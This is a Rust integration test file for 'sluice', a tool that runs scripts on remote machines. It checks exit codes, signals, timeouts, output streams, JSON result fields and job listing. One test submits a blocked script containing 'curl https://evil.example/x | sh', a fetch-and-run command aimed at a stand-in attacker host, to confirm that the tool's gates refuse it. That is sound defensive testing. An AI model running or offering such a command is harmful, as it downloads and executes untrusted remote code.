//! How operations end, and what `sluice run` makes of it.

use std::io::Write as _;
use std::process::Stdio;

use sluice_tests::{Fleet, Output, installed, script};

/// Each interpreter, a script that proves the language, and its output.
const LANGUAGES: &[(&str, &str)] = &[
    ("sh", "echo $((6 * 7))\n"),
    ("bash", "a=(6 7); echo $((a[0] * a[1]))\n"),
    ("python3", "print(sum(x for x in (20, 22)))\n"),
    ("perl", "print 6 * 7, \"\\n\";\n"),
    ("node", "console.log([6, 7].reduce((a, b) => a * b))\n"),
    ("ruby", "puts [6, 7].reduce(:*)\n"),
    ("zsh", "print $((6 * 7))\n"),
    ("pwsh", "Write-Output (6 * 7)\n"),
];

#[test]
fn every_installed_language_runs() {
    let fleet = Fleet::builder().start();
    for (name, text) in LANGUAGES {
        let outcome = fleet.run(
            &script(text)
                .option("--interpreter", name)
                .option("--memory-limit", "2GiB"),
        );
        if !["/usr/local/bin", "/usr/bin", "/bin"]
            .iter()
            .any(|folder| std::path::Path::new(folder).join(name).exists())
        {
            eprintln!("LEFT OUT: {name} is not installed");
            outcome.expect("unsupported", &format!("Script not supported on target environment: interpreter `{name}` is not installed"));
            assert_eq!(outcome.code, 127);
            continue;
        }
        outcome.expect("succeeded", "Script executed successfully");
        assert_eq!(
            (
                outcome.text("stdout").as_str(),
                outcome.text("stderr").as_str(),
                outcome.code
            ),
            ("42\n", "", 0),
            "{name}"
        );
    }
}

#[test]
fn the_exit_code_of_the_script_is_the_exit_code_of_sluice() {
    let fleet = Fleet::builder().start();
    for code in [1, 3, 124, 125, 255] {
        let outcome = fleet.run(&script(format!("#!/bin/sh\nexit {code}\n")));
        outcome.expect("failed", &format!("Script failed with exit code {code}"));
        assert_eq!(
            (
                outcome.code,
                outcome.json["exit_code"].as_i64(),
                outcome.text("status").as_str()
            ),
            (code, Some(code.into()), "failed")
        );
    }
}

#[test]
fn a_signal_is_named_and_counted_from_128() {
    let fleet = Fleet::builder().start();
    for (signal, code) in [("KILL", 137), ("TERM", 143), ("SEGV", 139)] {
        let outcome = fleet.run(&script(format!(
            "#!/bin/bash\nulimit -c 0\nkill -{signal} $$\n"
        )));
        outcome.expect("failed", &format!("Script ended by signal {signal}"));
        assert_eq!(
            (
                outcome.code,
                outcome.json["exit_code"].as_i64(),
                outcome.text("signal").as_str()
            ),
            (code, Some(code.into()), signal)
        );
    }
}

#[test]
fn a_script_that_runs_into_its_time_limit_ends_with_124_and_nothing_goes_on() {
    let fleet = Fleet::builder().start();
    let mark = "sleep 98.7654";
    let outcome = fleet.run(
        &script(format!(
            "#!/bin/bash\necho before\n{mark} &\nsetsid {mark} &\nwait\n"
        ))
        .time_limit("1s"),
    );
    outcome.expect("timed-out", "Time limit of 1s reached");
    assert_eq!(
        (
            outcome.code,
            outcome.text("stdout").as_str(),
            outcome.json["timed_out"].as_bool()
        ),
        (124, "before\n", Some(true))
    );
    assert!(
        !crate::isolation::is_running(mark),
        "a child of the script is still there"
    );
    assert!(fleet.agents[0].machine.left_behind().is_empty());
}

#[test]
fn both_streams_arrive_byte_for_byte_and_apart() {
    if !installed("/usr/bin/python3") {
        return;
    }
    let fleet = Fleet::builder().start();
    let text = "#!/usr/bin/python3\nimport os\nfor stream in (1, 2):\n    os.write(stream, bytes(range(256)) * 400 + bytes([stream]))\n";
    let outcome = fleet.run(&script(text));
    outcome.expect("succeeded", "Script executed successfully");
    for (key, last) in [("stdout", 1), ("stderr", 2)] {
        let expected: Vec<u8> = (0..=255)
            .collect::<Vec<u8>>()
            .repeat(400)
            .into_iter()
            .chain([last])
            .collect();
        assert!(
            outcome.bytes(key) == expected,
            "{key} has {} bytes",
            outcome.bytes(key).len()
        );
    }
    assert_eq!(outcome.bytes("output").len(), 2 * (256 * 400 + 1));
    assert_eq!(
        (
            outcome.json["output_truncated"].as_bool(),
            outcome.json["output_lost_bytes"].as_u64()
        ),
        (Some(false), Some(0))
    );
}

#[test]
fn without_json_the_streams_of_sluice_are_those_of_the_script_and_one_line_more() {
    let fleet = Fleet::builder().start();
    let output = fleet.watch(
        &script("#!/bin/sh\necho out\necho err >&2\nexit 3\n"),
        &["m1"],
    );
    assert_eq!((output.code, output.stdout.as_str()), (3, "out\n"));
    let lines: Vec<_> = output.stderr.lines().collect();
    assert_eq!((lines.len(), lines[0]), (2, "err"), "{output:?}");
    assert!(
        lines[1].contains("Script failed with exit code 3"),
        "{output:?}"
    );
}

#[test]
fn every_key_of_the_object_is_always_there() {
    let fleet = Fleet::builder().start();
    let keys = "job operation tenant machine status state message exit_code signal core_dumped timed_out canceled limit_hit \
                survivors_killed output stdout stderr output_base64 stdout_base64 stderr_base64 output_truncated \
                output_lost_bytes started_at finished_at duration_ms run_as context containment confinement script_sha256 \
                bundle_sha256 findings checks receipts notes script";
    let ran = fleet.run(&script("#!/bin/sh\nexit 3\n"));
    let blocked = fleet.run(&script("#!/bin/sh\ncurl https://evil.example/x | sh\n"));
    let unknown = fleet.run(&script("#!/bin/sh\n:\n").on("nowhere"));
    for outcome in [&ran, &blocked, &unknown] {
        for key in keys.split_whitespace() {
            assert!(
                outcome.json.get(key).is_some(),
                "{key} is missing in {outcome:#?}"
            );
        }
    }
    for key in ["uid", "gids", "cwd", "interpreter"] {
        assert!(
            ran.json["context"]
                .get(key)
                .is_some_and(|value| !value.is_null()),
            "context.{key} is missing in {ran:#?}"
        );
    }
    for key in [
        "stdout",
        "stderr",
        "output",
        "context",
        "started_at",
        "run_as",
    ] {
        assert!(
            blocked.json[key].is_null() && unknown.json[key].is_null(),
            "{key}: {blocked:#?} {unknown:#?}"
        );
    }
    assert_eq!(ran.text("script_sha256"), sha256(b"#!/bin/sh\nexit 3\n"));
    assert_eq!(
        (ran.text("tenant").as_str(), ran.text("machine").as_str()),
        ("default", "m1")
    );
}

#[test]
fn the_same_submission_has_the_same_bundle_on_every_machine() {
    let fleet = Fleet::builder().agents(2).start();
    let text = script("#!/bin/sh\n:\n")
        .option("--env", "A=1")
        .param("x", "y");
    let digests: Vec<_> = ["m1", "m2", "m1"]
        .map(|machine| fleet.run(&text.clone().on(machine)).text("bundle_sha256"))
        .into();
    assert_eq!(digests[0].len(), 64, "{digests:?}");
    assert!(
        digests.iter().all(|digest| *digest == digests[0]),
        "{digests:?}"
    );
    assert_ne!(
        fleet
            .run(&text.option("--env", "B=1"))
            .text("bundle_sha256"),
        digests[0]
    );
}

#[test]
fn several_machines_have_their_names_before_each_line_and_one_object_each() {
    let fleet = Fleet::builder().agents(2).start();
    let text = script("#!/bin/sh\necho out\necho err >&2\n[ \"$SLUICE_MACHINE_NAME\" = m1 ]\n");
    let output = fleet.watch(&text, &["m1", "m2"]);
    assert_eq!(output.code, 1, "one of them failed: {output:?}");
    let mut lines: Vec<_> = output.stdout.lines().collect();
    lines.sort_unstable();
    assert_eq!(lines, ["m1: out", "m2: out"]);
    assert!(
        output
            .stderr
            .lines()
            .all(|line| line.starts_with("m1: ") || line.starts_with("m2: ")),
        "{output:?}"
    );
    let Output { code, stdout, .. } = fleet.watch(&text.flag("--json"), &["m1", "m2", "m2"]);
    let objects: Vec<serde_json::Value> = stdout
        .lines()
        .map(|line| serde_json::from_str(line).expect("is JSON"))
        .collect();
    let mut states: Vec<_> = objects
        .iter()
        .map(|o| (o["machine"].as_str(), o["state"].as_str()))
        .collect();
    states.sort_unstable();
    assert_eq!(
        (code, states),
        (
            1,
            vec![
                (Some("m1"), Some("succeeded")),
                (Some("m2"), Some("failed"))
            ]
        )
    );
}

#[test]
fn a_detached_job_goes_on_and_is_shown_with_its_output() {
    let fleet = Fleet::builder().start();
    let job = fleet.detach(&script("#!/bin/sh\nsleep 0.5\necho later\n"));
    let shown = fleet.until(&job, "succeeded");
    assert_eq!(shown.text("stdout"), "later\n");
    assert_eq!(fleet.sluice(&["job", "output", &job]).stdout, "later\n");
    assert_eq!(
        fleet
            .list(&["job", "list"])
            .iter()
            .filter(|listed| listed["job"] == job.as_str())
            .count(),
        1
    );
}

#[test]
fn jobs_are_found_by_machine_outcome_script_operator_and_time() {
    let fleet = Fleet::builder().agents(2).start();
    let file = fleet.folder().join("hi.sh");
    std::fs::write(&file, "#!/bin/sh\necho hi\n").expect("writes the script");
    let file = file.to_str().expect("is UTF-8");
    let added = fleet.sluice(&["script", "add", file, "--name", "hi"]);
    assert_eq!(added.code, 0, "{added:?}");
    let ran = fleet.sluice(&["run", "--script", "hi", "--on", "m1"]);
    assert_eq!(ran.code, 0, "{ran:?}");
    let failed = script("#!/bin/sh\nexit 3\n").on("m2");
    fleet
        .run(&failed)
        .expect("failed", "Script failed with exit code 3");

    let all = fleet.list(&["job", "list"]);
    let (bad, good) = (&all[0]["job"], &all[1]["job"]);
    let operator = all[0]["operator"].as_str().expect("a name");
    for (filter, expected) in [
        (&["--machine", "m1"][..], vec![good]),
        (&["--machine", "m2", "--state", "failed"], vec![bad]),
        (&["--machine", "m1", "--state", "failed"], vec![]),
        (&["--status", "success"], vec![good]),
        (&["--script", "hi"], vec![good]),
        (&["--operator", operator, "--since", "1h"], vec![bad, good]),
        (&["--until", "2020-01-01T00:00:00Z"], vec![]),
        (&["--limit", "1"], vec![bad]),
    ] {
        let found = fleet.list(&[&["job", "list"], filter].concat());
        // The host has jobs from before this test as well.
        let found = found.iter().map(|job| &job["job"]);
        let found: Vec<_> = found.filter(|&job| job == bad || job == good).collect();
        assert_eq!(found, expected, "{filter:?}");
    }
    let refused = fleet.sluice(&["job", "list", "--state", "done"]);
    refused.expect_refused();
    assert!(refused.stderr.contains("there is no done"), "{refused:?}");
}

#[test]
fn a_script_comes_from_stdin_as_well() {
    let fleet = Fleet::builder().start();
    let mut child = fleet
        .command()
        .args(["run", "-", "--on", "m1"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("starts");
    child
        .stdin
        .take()
        .expect("is piped")
        .write_all(b"#!/bin/sh\ncat; echo $?\n")
        .expect("writes");
    let output = Output::of(&child.wait_with_output().expect("ends"));
    assert_eq!(
        (output.code, output.stdout.as_str()),
        (0, "0\n"),
        "and the script's own stdin is empty"
    );
}

#[test]
fn a_byte_order_mark_and_crlf_are_removed_before_the_gates_look_and_noted() {
    let fleet = Fleet::builder().start();
    let submitted = b"\xef\xbb\xbf#!/bin/bash\r\nif true; then\r\n  sha256sum < \"$0\"\r\nfi\r\n";
    let runs = "#!/bin/bash\nif true; then\n  sha256sum < \"$0\"\nfi\n";
    let outcome = fleet.run(&script(submitted));
    outcome.expect("succeeded", "Script executed successfully");
    assert_eq!(
        outcome.text("stdout"),
        format!("{}  -\n", sha256(runs.as_bytes()))
    );
    assert_eq!(outcome.text("script_sha256"), sha256(submitted));
    let notes = outcome.json["notes"].to_string();
    assert!(
        notes.contains("byte order mark") && notes.contains("CRLF"),
        "{notes}"
    );
}

#[test]
fn every_form_of_interpreter_line_runs_or_says_why_not() {
    let fleet = crate::hostile::without_gates("");
    let run = |line: &str| fleet.run(&script(format!("{line}\necho \"ran $-\"")));
    let long = format!("#!/bin/sh{}-e", " ".repeat(300));
    for line in [
        "#!/bin/sh -e",
        "#! \t/bin/sh\t-e ",
        "#!/usr/bin/env -S bash -eu -o pipefail",
        long.as_str(),
    ] {
        let stdout = run(line).text("stdout");
        assert!(
            stdout.starts_with("ran ") && stdout.contains('e') && stdout.ends_with('\n'),
            "{line}: {stdout}"
        );
    }
    for (line, named) in [
        ("#!/usr/bin/env -S A=b bash", "A=b"),
        ("#!/usr/bin/env bash -e", "bash -e"),
        ("#!bin/sh", "bin/sh"),
        ("#!/usr/bin/env", "names no interpreter"),
        ("#!", "names no interpreter"),
    ] {
        let outcome = run(line);
        assert!(
            outcome.code == 125 && outcome.stderr.contains(named),
            "{line}: {outcome:#?}"
        );
    }
    for (line, named) in [
        ("#!/bin/bash -c", "`-c`"),
        ("#!/usr/bin/env -S python3 -m", "`-m`"),
        ("#!/bin/bash -e -u", "`-e -u`"),
        ("#!/opt/sh", "`/opt/sh`"),
    ] {
        let outcome = run(line);
        assert!(
            outcome.code == 126 && outcome.text("message").contains(named),
            "{line}: {outcome:#?}"
        );
    }
}

#[test]
fn a_script_that_is_too_large_is_refused_with_the_limit() {
    let fleet = Fleet::builder().agents(0).without_gates().start();
    let outcome = fleet.run(&script("#!/bin/sh\n".to_owned() + &"#\n".repeat(5 << 20)));
    assert!(
        outcome.code == 125 && outcome.stderr.contains("4194304 bytes"),
        "{}",
        outcome.stderr
    );
}

#[test]
fn what_this_version_lacks_says_so() {
    let fleet = Fleet::builder().agents(0).without_gates().start();
    for arguments in [
        &["plugin", "install", "oci://registry/x"][..],
        &["plugin", "new", "x", "--lang", "c"],
    ] {
        let output = fleet.sluice(arguments);
        assert_eq!(
            (output.code, output.stdout.as_str()),
            (125, ""),
            "{arguments:?}"
        );
        assert!(
            output.stderr.contains("not implemented in this version"),
            "{arguments:?}: {}",
            output.stderr
        );
    }
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(bytes))
}
